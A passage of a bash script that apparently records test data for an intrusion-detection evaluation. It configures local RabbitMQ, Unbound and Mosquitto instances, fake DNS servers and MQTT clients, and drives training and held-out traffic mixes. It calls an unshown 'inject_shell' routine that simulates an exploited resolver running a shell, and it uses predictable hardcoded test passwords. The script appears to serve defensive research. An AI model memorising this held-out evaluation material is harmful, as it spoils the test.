# invoices (1-4 KB) and payments, consumes them with a push consumer, and every fourth round
# a burst of 1500 4 KB messages into bulk.import (paged to disk) drained by two consumers;
# the shop keeps a little of mix A. Every 20 s the operator lists the billing queues and
# policies.
rabbitmq_heldout_deploy() {
  rabbitmq_ctl rabbitmqctl add_vhost billing
  rabbitmq_ctl rabbitmqctl add_user billing-app "$(rabbitmq_pass billing-app)"
  rabbitmq_ctl rabbitmqctl set_permissions -p billing billing-app '.*' '.*' '.*'
  rabbitmq_ctl rabbitmqctl set_permissions -p billing admin '.*' '.*' '.*'
  rabbitmq_ctl rabbitmqctl set_policy -p billing --apply-to queues invoices '^invoices\.' '{"message-ttl":60000,"max-length":5000}'
  rabbitmq_ctl rabbitmqctl set_policy -p billing --apply-to queues bulk '^bulk\.' '{"queue-mode":"lazy"}'
  rabbitmq_ctl rabbitmq-plugins enable rabbitmq_consistent_hash_exchange
  rabbitmq_config 'vm_memory_high_watermark_paging_ratio = 0.3' 'channel_max = 512'
}
rabbitmq_heldout_addr() { echo "127.0.32.$((1 + ($1 * 37 + RMQ_ROUND * 53) % 250))"; }
rabbitmq_heldout_mix() {
  local r=$((RMQ_ROUND += 1)) app
  app=(xdecl:invoices:topic xdecl:shards:x-consistent-hash qdecl:invoices.created qdecl:invoices.paid
    qdecl:shard.1 qdecl:shard.2 qdecl:bulk.import bind:invoices.created:invoices:invoice.created.*
    bind:invoices.paid:invoices:invoice.paid.* bind:shard.1:shards:1 bind:shard.2:shards:2)
  rabbitmq_amqp "$(rabbitmq_heldout_addr 0)" billing billing-app "${app[@]}" \
    "pub:invoices:invoice.created.$((r % 7)):10:$((1024 << (r % 3)))" "pub:invoices:invoice.paid.$((r % 5)):5:768" \
    "pub:shards:customer-$r:12:300"
  rabbitmq_amqp "$(rabbitmq_heldout_addr 1)" shop orders-app "pub:orders:order.created.eu:6:512" get:orders.created:10:0
  rabbitmq_wait
  rabbitmq_amqp "$(rabbitmq_heldout_addr 2)" billing billing-app sub:invoices.created:20:8 sub:invoices.paid:10:8
  rabbitmq_amqp "$(rabbitmq_heldout_addr 3)" billing billing-app get:shard.1:10:0 get:shard.2:10:0
  if [ $((r % 4)) = 1 ]; then
    rabbitmq_amqp "$(rabbitmq_heldout_addr 4)" billing billing-app qdecl:bulk.import pub::bulk.import:1500:4096
  fi
  rabbitmq_wait
  if [ $((r % 4)) = 2 ]; then
    rabbitmq_amqp "$(rabbitmq_heldout_addr 5)" billing billing-app sub:bulk.import:800:50
    rabbitmq_amqp "$(rabbitmq_heldout_addr 6)" billing billing-app sub:bulk.import:800:50
    rabbitmq_wait
  fi
}
rabbitmq_heldout_job() {
  rabbitmq_ctl rabbitmqctl list_queues -p billing name messages
  rabbitmq_ctl rabbitmqctl list_policies -p billing
}
# --- unbound ------------------------------------------------------------------------------

UB_PORT=21053           # unbound's DNS service, 127.0.0.1 (UDP and TCP)
UB_CTL_PORT=21953       # its remote control (unbound-control, TLS with its own keys)
UB_AUTH_PORT=53         # the upstream authoritative servers' port on 127.0.34.x
UB_DIR=$WORK/unbound    # conf/, keys/, data/ (its working directory), run/, log/, cache/
UB_CONF=$UB_DIR/conf/unbound.conf
UB_AUTH_DIR=$WORK/unbound-auth   # the upstream servers' zones and program (outside the cgroup)

# Unbound 1.17 (Debian unbound) as a recursive resolver that forwards and stubs only, its own
# instance, not the system service (unbound.service and unbound-resolvconf.service disabled,
# its init script disabled; /etc/resolv.conf kept byte for byte): `unbound -d -c
# conf/unbound.conf` started as root in dw-eval/unbound, in the foreground (-d, as the unit
# runs it), no chroot, `username: unbound` (it binds its ports, then runs as unbound). Its
# root-owned config (group unbound, 640) in conf/: one thread, 127.0.0.1:$UB_PORT UDP and TCP
# for 127.0.0.0/8, its log in log/ (`logfile`, ASCII time), pid file in run/, working
# directory data/ (unbound's), prefetch on (names refreshed before their TTL expires),
# extended statistics, outgoing UDP ports limited to 21100-21899, no DNSSEC validation
# (`module-config: "iterator"`, private test zones), `do-not-query-localhost: no` and the
# default local zones test. and 10.in-addr.arpa. turned off; remote control on
# 127.0.0.1:$UB_CTL_PORT with keys from `unbound-control-setup -d keys/` (root:unbound 640).
# No internet and no root servers: a made-up root hints file (conf/root.hints: one root on
# 127.0.34.20) and a forward zone "." to 127.0.34.19-20, whose servers answer NXDOMAIN for
# everything outside the test zones; stub zones with several authoritative addresses each:
# example.test (127.0.34.1-3), corp.test (.4-.5), shop.test (.6-.8) and 1.0.10.in-addr.arpa
# (.9-.10), all port $UB_AUTH_PORT. The authoritative servers are one python3 dnspython process
# outside the cgroup (unbound-auth.py) bound to each address, UDP and TCP, answering from zone
# files in $UB_AUTH_DIR (shop.test's large TXT truncated over UDP, so unbound asks again over
# TCP); records with TTLs from 20 s to 300 s.
unbound_provision() {
  local p
  # A fresh provisioning (heldout's) replaces the upstream servers of the run before.
  [ -z "$UB_AUTH_PID" ] || stop_pid "$UB_AUTH_PID" TERM
  UB_AUTH_PID=
  for p in "$UB_PORT" "$UB_CTL_PORT" "$UB_AUTH_PORT"; do
    if ss -Hlnut "sport = :$p" | grep -q .; then die "port $p is in use"; fi
  done
  rm -rf "$UB_DIR" "$UB_AUTH_DIR"
  UB_STUBS=("example.test 1 2 3" "corp.test 4 5" "shop.test 6 7 8" "1.0.10.in-addr.arpa 9 10")
  mkdir -p "$UB_DIR"/{conf,keys,data,run,log,cache} "$UB_AUTH_DIR"
  chown unbound:unbound "$UB_DIR"/{data,run,log}
  unbound-control-setup -d "$UB_DIR/keys" >/dev/null 2>&1 || die "unbound-control-setup failed"
  chown root:unbound "$UB_DIR"/keys/*
  chmod 640 "$UB_DIR"/keys/*
  printf '. 3600000 NS a.root.test.\na.root.test. 3600000 A 127.0.34.20\n' >"$UB_DIR/conf/root.hints"
  unbound_config >"$UB_CONF"
  chown root:unbound "$UB_DIR"/conf/*
  chmod 640 "$UB_DIR"/conf/*
  unbound_zones
  unbound_auth_tool
  unbound_auth_start
  bind_dns_tool
  UB_ROUND=0
}
# unbound_config: unbound.conf; UB_STUBS lines "ZONE A..." are its stub zones, each served
# by 127.0.34.A.
UB_STUBS=()
unbound_config() {
  local z a
  cat <<CONF
server:
  verbosity: 1
  num-threads: 1
  interface: 127.0.0.1
  port: $UB_PORT
  do-ip6: no
  do-udp: yes
  do-tcp: yes
  access-control: 127.0.0.0/8 allow
  chroot: ""
  username: "unbound"
  directory: "$UB_DIR/data"
  pidfile: "$UB_DIR/run/unbound.pid"
  logfile: "$UB_DIR/log/unbound.log"
  use-syslog: no
  log-time-ascii: yes
  root-hints: "$UB_DIR/conf/root.hints"
  module-config: "iterator"
  do-not-query-localhost: no
  local-zone: "test." nodefault
  local-zone: "10.in-addr.arpa." nodefault
  prefetch: yes
  extended-statistics: yes
  statistics-cumulative: no
  outgoing-range: 128
  num-queries-per-thread: 64
  outgoing-port-avoid: 0-65535
  outgoing-port-permit: 21100-21899
  so-reuseport: no
  cache-min-ttl: 0
  hide-identity: yes
  hide-version: yes
remote-control:
  control-enable: yes
  control-interface: 127.0.0.1
  control-port: $UB_CTL_PORT
  server-key-file: "$UB_DIR/keys/unbound_server.key"
  server-cert-file: "$UB_DIR/keys/unbound_server.pem"
  control-key-file: "$UB_DIR/keys/unbound_control.key"
  control-cert-file: "$UB_DIR/keys/unbound_control.pem"
forward-zone:
  name: "."
  forward-addr: 127.0.34.19@$UB_AUTH_PORT
  forward-addr: 127.0.34.20@$UB_AUTH_PORT
CONF
  for z in "${UB_STUBS[@]}"; do
    printf 'stub-zone:\n  name: "%s"\n' "${z%% *}"
    for a in ${z#* }; do printf '  stub-addr: 127.0.34.%s@%s\n' "$a" "$UB_AUTH_PORT"; done
  done
}
# unbound_zones: the upstream zone files (bind_zone_head's SOA and NS); example.test has
# host01-80 (training asks 01-30), shop.test item1-120 (training asks 1-60).
unbound_zones() {
  local i d=$UB_AUTH_DIR
  {
    bind_zone_head example.test 2026120501
    printf '@ MX 10 mail\n@ MX 20 mail2\n@ TXT "v=spf1 mx -all"\n@ A 10.0.0.10\nwww A 10.0.0.10\nwww AAAA fd00::10\n'
    printf 'mail A 10.0.0.25\nmail2 A 10.0.0.26\napi 30 A 10.0.0.30\napi 30 AAAA fd00::30\nftp CNAME www\n'
    printf 'sip A 10.0.0.50\n_sip._tcp SRV 10 60 5060 sip\n_dmarc TXT "v=DMARC1; p=reject"\n'
    for i in $(seq 1 80); do printf 'host%02d 60 A 10.0.1.%d\n' "$i" "$i"; done
  } >"$d/example.test.zone"
  {
    bind_zone_head corp.test 2026120501
    printf 'vpn A 10.0.3.1\nintranet A 10.0.3.2\nwiki CNAME intranet\n@ MX 10 mail.example.test.\n'
    printf 'dc1 A 10.0.3.10\ndc2 A 10.0.3.11\n_ldap._tcp SRV 0 100 389 dc1\n_ldap._tcp SRV 0 100 389 dc2\n'
    printf 'printer 20 A 10.0.3.40\ngit A 10.0.3.41\ngit AAAA fd00::3:41\n_kerberos._udp SRV 0 100 88 dc1\n'
  } >"$d/corp.test.zone"
  {
    bind_zone_head shop.test 2026120501
    printf '@ MX 10 mail.example.test.\n@ A 10.0.2.1\nwww A 10.0.2.1\ncdn CNAME www\napi 30 A 10.0.2.2\n'
    printf 'img A 10.0.2.3\nimg AAAA fd00::2:3\n'
    # The items, and a large answer: 8 TXT records of 200 bytes (truncated over UDP; one
    # record a line, as dump_cache cuts lines at 1024 bytes and load_cache then fails).
    awk 'BEGIN { for (i = 1; i <= 120; i++) printf "item%d 120 TXT \"sku=%06d\"\n", i, i
                 for (i = 1; i <= 8; i++) printf "big TXT \"k%d=%0196d\"\n", i, 0 }'
  } >"$d/shop.test.zone"
  { bind_zone_head 1.0.10.in-addr.arpa 2026120501 example.test.; awk 'BEGIN { for (i = 1; i <= 80; i++) printf "%d PTR host%02d.example.test.\n", i, i }'; } \
    >"$d/1.0.10.in-addr.arpa.zone"
  printf '%s 300\n@ SOA a.root.test. hostmaster.root.test. 2026120501 3600 600 86400 300\n@ NS a.root.test.\n' "\$TTL" >"$d/root.zone"
}

# The upstream authoritative servers (python3 dnspython, outside the cgroup): `unbound-auth.py
# DIR PORT ADDR...` answers UDP and TCP on each ADDR:PORT from DIR/*.zone (root.zone is "."),
# authoritatively, NXDOMAIN and NODATA with the zone's SOA; an answer too large for the
# client's UDP buffer goes out empty and truncated. HUP reads the zones again.
unbound_auth_tool() {
  cat >"$UB_AUTH_DIR/unbound-auth.py" <<'PY'
import glob, os, signal, socketserver, struct, sys, threading
import dns.exception, dns.flags, dns.message, dns.name, dns.rcode, dns.rdataclass, dns.rdatatype, dns.rrset, dns.zone

def load(d):
    zones = {}
    for f in glob.glob(os.path.join(d, "*.zone")):
        base = os.path.basename(f)[:-5]
        origin = "." if base == "root" else base + "."
        zones[dns.name.from_text(origin)] = dns.zone.from_file(f, origin=origin, relativize=False)
    return zones

def answer(wire, udp):
    q = dns.message.from_wire(wire)
    r = dns.message.make_response(q)
    qname, qtype = q.question[0].name, q.question[0].rdtype
    origins = [o for o in ZONES if qname.is_subdomain(o)]
    if not origins:
        r.set_rcode(dns.rcode.REFUSED)
        return r.to_wire()
    origin = max(origins, key=len)
    zone = ZONES[origin]
    r.flags |= dns.flags.AA
    node = zone.get_node(qname)
    rds = None
    if node is not None:
        rds = node.get_rdataset(dns.rdataclass.IN, qtype) or node.get_rdataset(dns.rdataclass.IN, dns.rdatatype.CNAME)
    if rds is not None:
        r.answer.append(dns.rrset.from_rdata_list(qname, rds.ttl, list(rds)))
    else:
        if node is None:
            r.set_rcode(dns.rcode.NXDOMAIN)
        soa = zone.get_rdataset(origin, dns.rdatatype.SOA)
        r.authority.append(dns.rrset.from_rdata_list(origin, 300, list(soa)))
    try:
        return r.to_wire(max_size=(q.payload if q.edns >= 0 else 512) if udp else 65535)
    except dns.exception.TooBig:
        r.answer, r.authority = [], []
        r.flags |= dns.flags.TC
        return r.to_wire()

class Udp(socketserver.BaseRequestHandler):
    def handle(self):
        data, sock = self.request
        try:
            sock.sendto(answer(data, True), self.client_address)
        except Exception as e:
            print("unbound-auth: %s" % e, file=sys.stderr)

class Tcp(socketserver.StreamRequestHandler):
    def handle(self):
        while True:
            head = self.rfile.read(2)
            if len(head) < 2:
                return
            data = self.rfile.read(struct.unpack(">H", head)[0])
            out = answer(data, False)
            self.wfile.write(struct.pack(">H", len(out)) + out)

class UdpServer(socketserver.ThreadingMixIn, socketserver.UDPServer):
    allow_reuse_address = True
    daemon_threads = True

class TcpServer(socketserver.ThreadingMixIn, socketserver.TCPServer):
    allow_reuse_address = True
    daemon_threads = True

DIR, PORT = sys.argv[1], int(sys.argv[2])
ZONES = load(DIR)
def reload(*_):
    global ZONES
    ZONES = load(DIR)
signal.signal(signal.SIGHUP, reload)
servers = [cls((a, PORT), h) for a in sys.argv[3:] for cls, h in ((UdpServer, Udp), (TcpServer, Tcp))]
for s in servers:
    threading.Thread(target=s.serve_forever, daemon=True).start()
signal.sigwait({signal.SIGTERM, signal.SIGINT})
PY
}
# unbound_auth_start: the upstream servers (Debian's python3, for python3-dnspython) on
# 127.0.34.1-10 and .19-.20 (training's), and .21-.23 (the held-out zone's and shop.test's new
# address).
UB_AUTH_PID=
unbound_auth_start() {
  /usr/bin/python3 "$UB_AUTH_DIR/unbound-auth.py" "$UB_AUTH_DIR" "$UB_AUTH_PORT" \
    $(seq -f '127.0.34.%g' 1 10) $(seq -f '127.0.34.%g' 19 23) 2>>"$WORK/unbound-auth.out" &
  UB_AUTH_PID=$!
  PIDS+=("$UB_AUTH_PID")
  until_ok dig +short +time=1 +tries=1 -p "$UB_AUTH_PORT" @127.0.34.3 www.example.test A
}

# unbound_resolv_save, unbound_resolv_restore: /etc/resolv.conf kept byte for byte across the
# installation (unbound's package may point it at the resolver it starts).
UB_RESOLV_SAVED=
unbound_resolv_save() {
  UB_RESOLV_SAVED=$(mktemp /run/dw-eval-resolv.XXXXXX)
  cp -a /etc/resolv.conf "$UB_RESOLV_SAVED"
}
unbound_resolv_restore() {
  cmp -s /etc/resolv.conf "$UB_RESOLV_SAVED" || cp -a "$UB_RESOLV_SAVED" /etc/resolv.conf
  rm -f "$UB_RESOLV_SAVED"
}

UB_PID=
unbound_ready() { dig +short +time=1 +tries=1 -p "$UB_PORT" @127.0.0.1 www.example.test A | grep -q .; }
unbound_start() {
  launch unbound root /usr/sbin/unbound -d -c "$UB_CONF"
  UB_PID=$LAUNCHED
  until_ok unbound_ready
}
# TERM: unbound's clean shutdown; the rounds so far are reported (the README counts them).
unbound_stop() {
  stop_pid "$UB_PID" TERM
  echo "record-testdata: unbound: $UB_ROUND rounds so far" >&2
}
# unbound_ctl CMD...: the operator's `unbound-control CMD` from outside the cgroup (as root, its
# own config, keys and port); its output on stdout, stdin passed on (load_cache).
unbound_ctl() { unbound-control -c "$UB_CONF" "$@" || echo "record-testdata: unbound: unbound-control $1 failed" >&2; }
# unbound_query JOBS: the clients' lines "SRC Q..." on stdin sent by bind's DNS clients
# (bind-dns.py, outside the cgroup) to unbound, each query with recursion desired.
unbound_query() {
  sed 's|\( [^ ]*\)|\1/rd|g' | python3 "$NAMED_DNS" "$UB_PORT" "$1" ||
    echo "record-testdata: unbound: the DNS clients failed" >&2
}
# unbound_dig SRC ARGS...: dig from SRC (an operator's or a script's lookup).
unbound_dig() { dig -b "$1" -p "$UB_PORT" @127.0.0.1 +time=3 +tries=1 "${@:2}" >/dev/null || true; }
# unbound_dump NAME [load]: the cache dumped into cache/NAME by the operator (unbound-control
# dump_cache), with load set loaded back (load_cache).
unbound_dump() {
  unbound_ctl dump_cache >"$UB_DIR/cache/$1"
  [ -z "${2:-}" ] || unbound_ctl load_cache <"$UB_DIR/cache/$1" >/dev/null
}

# Mix A: three clients (127.0.0.2-4) with A, AAAA, MX, TXT, SRV and PTR queries for names of
# example.test (hosts 01-30), shop.test (items 1-60) and the reverse zone, names that do not
# exist (NXDOMAIN, cache misses each time) and names outside the test zones (the forwarders'
# NXDOMAIN), the same popular names each round (cache hits), two over TCP; shop.test's large TXT
# every third round (truncated upstream: TCP to the authoritative server); a TCP dig from
# 127.0.0.5; the operator's unbound-control from outside: stats_noreset every round,
# list_stubs every fifth, flush_zone corp.test every seventh.
unbound_mix_a() {
  local r=$((UB_ROUND += 1)) h i
  h=$(printf %02d $((1 + RANDOM % 30)))
  i=$((1 + RANDOM % 60))
  {
    echo "127.0.0.2 www.example.test/A www.example.test/AAAA example.test/MX example.test/TXT host$h.example.test/A nosuch$RANDOM.example.test/A mail.example.test/A"
    echo "127.0.0.3 www.shop.test/A item$i.shop.test/TXT api.example.test/A/tcp _sip._tcp.example.test/SRV gone$RANDOM.shop.test/AAAA vpn.corp.test/A"
    echo "127.0.0.4 $((1 + RANDOM % 30)).1.0.10.in-addr.arpa/PTR wiki.corp.test/A www.debian.org/A api.example.test/AAAA/tcp www.example.test/A"
    [ $((r % 3)) != 0 ] || echo "127.0.0.3 big.shop.test/TXT"
  } | unbound_query 3
  unbound_dig 127.0.0.5 +tcp "host$h.example.test" A
  unbound_ctl stats_noreset >/dev/null
  [ $((r % 5)) != 0 ] || unbound_ctl list_stubs >/dev/null
  [ $((r % 7)) != 0 ] || unbound_ctl flush_zone corp.test >/dev/null
}
# Mix B: other names and types from 127.0.0.6-9: corp.test's SRV records, its domain
# controllers and git host, CNAMEs, NS and SOA, PTR of hosts 20-40, the shop's items 30-60,
# img AAAA and cdn; one client, then six at a time with twice as many queries each; a TCP dig
# of corp.test MX from 127.0.0.9; unbound-control lookup and list_forwards, stats_noreset.
unbound_mix_b() {
  : $((UB_ROUND += 1))
  local n ub_names="_ldap._tcp.corp.test/SRV git.corp.test/AAAA ftp.example.test/CNAME corp.test/NS"
  ub_names+=" example.test/SOA img.shop.test/AAAA cdn.shop.test/A _dmarc.example.test/TXT/tcp"
  echo "127.0.0.6 $ub_names dc1.corp.test/A item$((30 + RANDOM % 31)).shop.test/TXT" | unbound_query 1
  for n in 1 2 3 4 5 6; do
    printf '127.0.0.%d %s %s dc%d.corp.test/A %d.1.0.10.in-addr.arpa/PTR item%d.shop.test/TXT\n' \
      $((6 + n % 4)) "$ub_names" "$ub_names" $((1 + n % 2)) $((20 + (RANDOM + n) % 21)) $((30 + RANDOM % 31))
  done | unbound_query 6
  unbound_dig 127.0.0.9 +tcp corp.test MX
  unbound_ctl lookup git.corp.test >/dev/null
  unbound_ctl list_forwards >/dev/null
  unbound_ctl stats_noreset >/dev/null
}

# Its scheduled jobs in training: the config checked inside the cgroup as unbound
# (unbound-checkconf), the cache dumped into cache/cache-<time>.dump, the config reloaded
# (unbound-control reload), and the log rotated (log/unbound.log -> .1 -> .2, then
# unbound-control log_reopen; rotate_logs with signal 0: the reopen is a control command).
unbound_maintenance() {
  admin unbound unbound /usr/sbin/unbound-checkconf "$UB_CONF"
  unbound_dump "cache-$(date +%Y%m%d-%H%M%S).dump"
  unbound_ctl reload >/dev/null
  rotate_logs 0 "$UB_PID" "" "$UB_DIR/log/unbound.log"
  unbound_ctl log_reopen >/dev/null
}

# The generic intruder script as unbound (an exploited resolver executing a shell) in its
# working directory.
unbound_inject() { inject_shell unbound unbound "$UB_DIR/data"; }
unbound_labels() { write_labels unbound "$UB_DIR/data"; }

# Held out, from a fresh provisioning. A config change goes live while unbound runs: a new
# stub zone lab.test whose authoritative servers are new addresses in the same /24
# (127.0.34.21-22, its zone written on the upstream side and read there by HUP, TTLs of 5-10 s:
# names refreshed as they expire) and shop.test's third server moved from .8 to .23; checked
# inside the cgroup as unbound (unbound-checkconf) and applied by `unbound-control reload`.
# Each round clients from 127.0.33.1-250 (other ones each round), five at a time, ask for
# lab.test, example.test's hosts 31-80, shop.test's items 61-120, corp.test's printer and
# Kerberos SRV, PTRs of hosts 41-80 and the large TXT over TCP: names never asked in training;
# a dig over TCP from 127.0.33.x. Every 20 s in turn: the cache dumped into another file
# (cache/heldout-<time>.txt) and loaded back, then stats_noreset; or lab.test's cache flushed
# (flush_zone lab.test), list_stubs and lookup of a lab name.
unbound_heldout_deploy() {
  UB_STUBS=("example.test 1 2 3" "corp.test 4 5" "shop.test 6 7 23" "1.0.10.in-addr.arpa 9 10" "lab.test 21 22")
  {
    bind_zone_head lab.test 2026120501
    printf 'ci 5 A 10.0.4.1\nbuild 10 A 10.0.4.2\nartifacts 10 AAAA fd00::4:3\nrunner1 5 A 10.0.4.11\nrunner2 5 A 10.0.4.12\n'
    printf '_https._tcp 10 SRV 0 100 443 artifacts\n'
  } >"$UB_AUTH_DIR/lab.test.zone"
  kill -HUP "$UB_AUTH_PID"
  unbound_config >"$UB_CONF"
  admin unbound unbound /usr/sbin/unbound-checkconf "$UB_CONF"
  unbound_ctl reload >/dev/null
}
unbound_heldout_mix() {
  local r=$((UB_ROUND += 1)) i q a
  for i in 0 1 2 3 4; do
    a=127.0.33.$((1 + (r * 41 + i * 59) % 250))
    q="ci.lab.test/A build.lab.test/A runner$((1 + (r + i) % 2)).lab.test/A artifacts.lab.test/AAAA"
    q+=" _https._tcp.lab.test/SRV host$((31 + (r * 5 + i * 7) % 50)).example.test/A"
    q+=" item$((61 + (r * 3 + i * 11) % 60)).shop.test/TXT printer.corp.test/A _kerberos._udp.corp.test/SRV"
    q+=" $((41 + (r + i * 3) % 40)).1.0.10.in-addr.arpa/PTR missing$r.lab.test/A"
    [ $(((r + i) % 3)) != 0 ] || q+=" big.shop.test/TXT/tcp git.corp.test/A/tcp"
    echo "$a $q"
  done | unbound_query 5
  unbound_dig "127.0.33.$((1 + (r * 97) % 250))" +tcp "host$((31 + r % 50)).example.test" A
}
UB_HELDOUT_JOBS=0
unbound_heldout_job() {
  if [ $(((UB_HELDOUT_JOBS += 1) % 2)) = 1 ]; then
    unbound_dump "heldout-$(date +%Y%m%d-%H%M%S).txt" load
    unbound_ctl stats_noreset >/dev/null
  else
    unbound_ctl flush_zone lab.test >/dev/null
    unbound_ctl list_stubs >/dev/null
    unbound_ctl lookup build.lab.test >/dev/null
  fi
}

# --- mosquitto ----------------------------------------------------------------------------

MQ_PORT=23000                    # MQTT over TCP, 127.0.0.1
MQ_WS_PORT=23001                 # MQTT over websockets, 127.0.0.1
MQ_DIR=$WORK/mosquitto           # conf/, auth/ (password and ACL files), data/, log/, run/, backup/
MQ_CONF=$MQ_DIR/conf/mosquitto.conf
MQ_CLIENT=$WORK/mosquitto-client # the clients' program (outside the cgroup)
MQ_SITES_A=(berlin hamburg munich)   # mix A's sites (a gateway each)
MQ_SITES_B=(vienna zurich)           # mix B's sites
MQ_SITES_H=(oslo lisbon riga)        # the held-out sites (users and ACLs added by its deploy)

# Eclipse Mosquitto 2.0.11 (Debian mosquitto) as an MQTT broker for sensor gateways, its own
# instance, not the system service (mosquitto.service and its init script disabled):
# `mosquitto -c conf/mosquitto.conf` started as root in dw-eval/mosquitto in the foreground, as
# the unit runs it; it opens its listeners, drops to the mosquitto user (`user mosquitto`) and
# then opens its log, pid file and persistence. Its root-owned config (group mosquitto, 640) in
# conf/: a TCP listener on 127.0.0.1:$MQ_PORT and a websockets listener on
# 127.0.0.1:$MQ_WS_PORT (`socket_domain ipv4`: without it libwebsockets binds every address),
# no anonymous access, a password file and an ACL file in auth/ (mosquitto's, as
# mosquitto_passwd rewrites the password file in place through a temporary file beside it),
# persistence in data/ (mosquitto.db, rewritten every 10 s, at SIGUSR1 and at exit), $SYS
# statistics every 10 s, its log in log/mosquitto.log (connections included), pid file in run/.
# Users: a gateway per site gw-<site> (writes sensors/<site>/#, status/<site>/#, reads
# cmd/<site>/# and config/<site>/#), ingest and archive (backends with persistent sessions),
# dashboard (websockets), ops (commands and retained configs), monitor ($SYS); every user has
# its own clients/<user>/# (an ACL pattern). HUP reloads the config, the password and ACL
# files and reopens the log.
mosquitto_provision() {
  local p u
  for p in "$MQ_PORT" "$MQ_WS_PORT"; do
    if ss -Hlnt "sport = :$p" | grep -q .; then die "port $p is in use"; fi
  done
  rm -rf "$MQ_DIR" "$MQ_CLIENT"
  mkdir -p "$MQ_DIR"/{conf,auth,data,log,run,backup} "$MQ_CLIENT"
  mosquitto_config >"$MQ_CONF"
  chown root:mosquitto "$MQ_CONF"
  chmod 640 "$MQ_CONF"
  MQ_OPS_GEN=1 MQ_TECH=0
  mosquitto_acl >"$MQ_DIR/auth/acl"
  for u in ingest archive dashboard monitor; do printf '%s:%s\n' "$u" "$(mosquitto_pass "$u")"; done >"$MQ_DIR/auth/passwd"
  printf 'ops:%s\n' "$(mosquitto_pass ops "$MQ_OPS_GEN")" >>"$MQ_DIR/auth/passwd"
  for u in "${MQ_SITES_A[@]}" "${MQ_SITES_B[@]}"; do printf 'gw-%s:%s\n' "$u" "$(mosquitto_pass "gw-$u")"; done >>"$MQ_DIR/auth/passwd"
  # The password file hashed (mosquitto_passwd -U, the deployment's step), then the service's.
  mosquitto_passwd -U "$MQ_DIR/auth/passwd"
  chown -R mosquitto:mosquitto "$MQ_DIR"/{auth,data,log,run}
  chmod 750 "$MQ_DIR"/{auth,data,log}
  chmod 640 "$MQ_DIR"/auth/*
  mosquitto_client >"$MQ_CLIENT/mqtt-clients.py"
  MQ_ROUND=0
}
# mosquitto_config [LINE...]: mosquitto.conf, with LINE... added to its global settings, and
# MQ_WS_EXTRA's lines to the websockets listener's (a held-out change).
MQ_WS_EXTRA=()
mosquitto_config() {
  cat <<CONF
# dw-eval mosquitto
per_listener_settings false
user mosquitto
pid_file $MQ_DIR/run/mosquitto.pid
persistence true
persistence_location $MQ_DIR/data/
autosave_interval 10
persistent_client_expiration 2h
sys_interval 10
max_queued_messages 2000
log_dest file $MQ_DIR/log/mosquitto.log
log_type error
log_type warning
log_type notice
log_type information
connection_messages true
log_timestamp_format %Y-%m-%dT%H:%M:%S
allow_anonymous false
password_file $MQ_DIR/auth/passwd
acl_file $MQ_DIR/auth/acl
CONF
  printf '%s\n' "$@"
  printf 'listener %s 127.0.0.1\nprotocol mqtt\n' "$MQ_PORT"
  printf 'listener %s 127.0.0.1\nprotocol websockets\nsocket_domain ipv4\n' "$MQ_WS_PORT"
  printf '%s\n' "${MQ_WS_EXTRA[@]}"
}
# mosquitto_acl: the ACL file: patterns for every user, the backends', the operators' and each
# site's gateway (mosquitto_acl_site).
mosquitto_acl() {
  local s
  cat <<'ACL'
# dw-eval mosquitto ACLs
pattern readwrite clients/%u/#

user ingest
topic read sensors/#
topic read status/#
topic write alerts/#

user archive
topic read sensors/#
topic read alerts/#

user dashboard
topic read sensors/#
topic read status/#
topic read alerts/#

user ops
topic write cmd/#
topic readwrite config/#
topic read status/#

user monitor
topic read $SYS/#
ACL
  for s in "${MQ_SITES_A[@]}" "${MQ_SITES_B[@]}"; do mosquitto_acl_site "$s"; done
}
mosquitto_acl_site() {
  printf '\nuser gw-%s\ntopic write sensors/%s/#\ntopic readwrite status/%s/#\ntopic read cmd/%s/#\ntopic read config/%s/#\n' \
    "$1" "$1" "$1" "$1" "$1"
}
# mosquitto_pass USER [GENERATION]: USER's password (ops's changes with each rotation).
mosquitto_pass() { echo "dw-$1-mqtt${2:+-$2}"; }

# mosquitto_client: the clients' program (python3-paho-mqtt, outside the cgroup):
# `mqtt-clients.py TCP_PORT WS_PORT` runs one client session for each line of stdin, all at
# once, each in its own thread: "SRC TRANSPORT PROTO USER:PASS CLIENT_ID CLEAN OP...", SRC the
# source address, TRANSPORT tcp or ws, PROTO 311 or 5, CLEAN 1 (a clean session) or 0 (a
# persistent one: the broker keeps its subscriptions and queues QoS 1/2 messages while it is
# away). The operations, in order:
#   will:TOPIC:QOS:RETAIN:PAYLOAD   its last will (set before it connects)
#   msg:TOPIC:QOS:RETAIN:PAYLOAD    one message with that payload
#   sub:TOPIC:QOS   unsub:TOPIC    wait:SECONDS    drop (the connection closed without a
#   DISCONNECT: the broker publishes the will)
#   pub:TOPIC:QOS:RETAIN:COUNT:SIZE[:FIRST]  COUNT JSON readings of SIZE bytes (0: an empty
#   payload, which clears a retained message); a {} in TOPIC is the device number, FIRST and up
#   refused    the broker is expected to refuse the login (a wrong password, an unknown user)
# A line per session on stdout: "ok", or "ERROR" for what should not have happened.
mosquitto_client() {
  cat <<'PY'
#!/usr/bin/python3
"""dw-eval MQTT clients: one session per line of stdin, all at once."""
import json, socket, sys, threading, time
import paho.mqtt.client as mqtt
from paho.mqtt.properties import Properties
from paho.mqtt.packettypes import PacketTypes

PORTS = {'tcp': int(sys.argv[1]), 'ws': int(sys.argv[2])}
OUT = threading.Lock()


def say(*a):
    with OUT:
        print(*a, flush=True)


def reading(topic, i, size):
    if size == 0:
        return b''
    body = {'ts': round(time.time(), 3), 'seq': i, 'value': round(18 + (i * 37 % 100) / 10, 1), 'unit': topic.rsplit('/', 1)[-1]}
    pad = size - len(json.dumps(body)) - 10
    if pad > 0:
        body['pad'] = 'x' * pad
    return json.dumps(body).encode()


def session(line):
    f = line.split()
    src, transport, proto, cred, cid, clean, ops = f[0], f[1], f[2], f[3], f[4], f[5] == '1', f[6:]
    user, _, password = cred.partition(':')
    v5 = proto == '5'
    kw = {'client_id': cid, 'transport': 'websockets' if transport == 'ws' else 'tcp',
          'protocol': mqtt.MQTTv5 if v5 else mqtt.MQTTv311}
    if not v5:
        kw['clean_session'] = clean
    c = mqtt.Client(**kw)
    c.username_pw_set(user, password)
    st = {'rc': None, 'got': 0, 'sent': 0}
    up = threading.Event()

    def on_connect(cl, ud, flags, rc, props=None):
        st['rc'] = rc if isinstance(rc, int) else rc.value
        up.set()

    def on_message(cl, ud, msg):
        st['got'] += 1

    c.on_connect = on_connect
    c.on_message = on_message
    for op in ops:
        if op.startswith('will:'):
            _, topic, qos, retain, payload = op.split(':', 4)
            c.will_set(topic, payload, int(qos), retain == '1')
    refused = 'refused' in ops
    try:
        if v5:
